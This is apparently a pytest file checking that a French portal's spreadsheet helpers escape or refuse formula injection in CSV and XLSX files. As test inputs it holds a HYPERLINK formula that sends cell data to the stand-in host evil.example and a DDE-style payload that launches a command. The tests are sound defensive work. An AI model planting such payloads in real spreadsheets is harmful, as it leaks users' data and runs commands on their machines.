"""Formula injection (issue 14, "Input"): the shared helpers of ``cte_portal.core.spreadsheets``
write formula-like texts as text and refuse imported formulas."""

import io

import pytest
from openpyxl import Workbook, load_workbook

from cte_portal.core.errors import RuleError
from cte_portal.core.spreadsheets import (
    append_row,
    csv_safe,
    read_csv_lines,
    read_xlsx_lines,
    workbook_bytes,
)

ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")'


@pytest.mark.parametrize(
    "text", [ATTACK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
)
def test_a_formula_like_text_gets_a_leading_quote_in_csv(text):
    assert csv_safe(text) == "'" + text


@pytest.mark.parametrize(
    "value", ["CLE de Lyon", "-12,5", "+33 6 12 34 56 78", "-", 12, -3.5, None]
)
def test_plain_texts_and_numbers_are_left_alone(value):
    assert csv_safe(value) == value


def test_a_normal_workbook_keeps_a_formula_like_text_as_text():
    workbook = Workbook()
    append_row(workbook.active, ["Comité", ATTACK, -4])
    cells = load_workbook(io.BytesIO(workbook_bytes(workbook))).active[1]
    assert cells[1].value == ATTACK and cells[1].data_type == "s"
    assert cells[2].value == -4 and cells[2].data_type == "n"


def test_a_write_only_workbook_keeps_a_formula_like_text_as_text():
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet()
    append_row(sheet, [ATTACK])
    buffer = io.BytesIO()
    workbook.save(buffer)
    cell = load_workbook(buffer).active["A1"]
    assert cell.value == ATTACK and cell.data_type == "s"


def _xlsx(rows) -> bytes:
    workbook = Workbook()
    for row in rows:
        workbook.active.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def test_an_xlsx_with_a_formula_is_refused_naming_the_cell():
    content = _xlsx([["indicateur", "valeur"], ["retours-emploi", "=1+1"]])
    with pytest.raises(RuleError, match=r"formule \(ligne 2, colonne B\)"):
        read_xlsx_lines(content)


def test_an_xlsx_without_formula_is_read():
    assert read_xlsx_lines(_xlsx([["a", "b"], ["x", -2]])) == [["a", "b"], ["x", -2]]


@pytest.mark.parametrize("cell", ["=1+1", "@SUM(A1)", "+cmd|x", "-1+A1", ' =HYPERLINK("x")'])
def test_a_csv_with_a_formula_is_refused_naming_the_cell(cell):
    with pytest.raises(RuleError, match=r"formule \(ligne 3, colonne C\)"):
        read_csv_lines(f"a;b;c\n1;2;3\n1;2;{cell}\n", delimiter=";")


def test_a_csv_with_negative_numbers_and_phones_is_read():
    assert read_csv_lines("a;b\n-12,5;+33 6 12 34 56 78\n", delimiter=";") == [
        ["a", "b"],
        ["-12,5", "+33 6 12 34 56 78"],
    ]


def test_a_huge_csv_cell_is_a_french_refusal():
    with pytest.raises(RuleError, match="cellule trop longue"):
        read_csv_lines("a\n" + "x" * 200_000 + "\n", delimiter=";")
